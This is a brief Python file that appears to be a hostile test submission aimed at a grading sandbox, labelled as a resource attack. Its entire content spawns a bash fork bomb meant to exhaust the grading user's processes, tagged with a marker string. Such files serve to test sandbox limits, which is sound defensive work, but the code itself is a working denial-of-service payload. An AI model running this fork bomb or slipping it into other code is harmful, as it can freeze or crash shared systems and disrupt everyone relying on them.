# attack: Resources: a fork bomb, to exhaust the processes of the grading user
import subprocess
subprocess.Popen(["/bin/bash", "-c", ":(){ :|:& };:", "HOSTILE-4242"])
import time
time.sleep(3)
